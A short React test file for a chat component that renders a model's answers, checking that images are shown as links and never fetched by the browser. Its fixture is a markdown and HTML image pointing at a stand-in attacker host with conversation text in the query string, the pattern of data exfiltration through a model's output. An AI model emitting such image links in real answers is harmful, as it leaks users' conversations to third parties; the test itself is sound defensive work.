import { MantineProvider } from '@mantine/core';
import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { MarkdownMessage } from './markdown-message.js';

describe('a model answer with images', () => {
  it('shows an image as a link and never lets the browser fetch it', () => {
    const leak = 'https://attacker.example/pixel.png?d=the%20secret%20conversation';
    const { container } = render(
      <MantineProvider>
        <MarkdownMessage text={`Here you go ![chart](${leak}) and <img src="${leak}">`} />
      </MantineProvider>,
    );
    expect(container.querySelector('img')).toBeNull();
    const link = screen.getByTestId('answer-image-link');
    expect(link.getAttribute('href')).toBe(leak);
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.textContent).toContain('chart');
    expect(link.textContent).toContain('attacker.example');
  });
});
